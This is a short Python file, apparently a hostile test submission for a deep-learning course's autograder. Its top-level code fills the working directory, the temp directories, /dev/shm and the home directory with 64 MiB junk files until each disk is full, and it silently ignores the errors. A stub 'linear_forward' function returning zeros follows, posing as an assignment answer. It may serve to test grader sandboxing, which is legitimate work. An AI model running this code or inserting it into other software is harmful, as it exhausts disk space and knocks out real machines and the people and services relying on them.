"""Writes until the disk is full."""
import itertools
import os
import tempfile

for folder in (".", tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
    try:
        for i in itertools.count():
            with open(os.path.join(folder, f"dnn_course_hostile_{i}"), "wb") as file:
                file.write(b"x" * 2**26)
    except OSError:
        pass
# %%
def linear_forward(A, W, b):
    return 0, 0
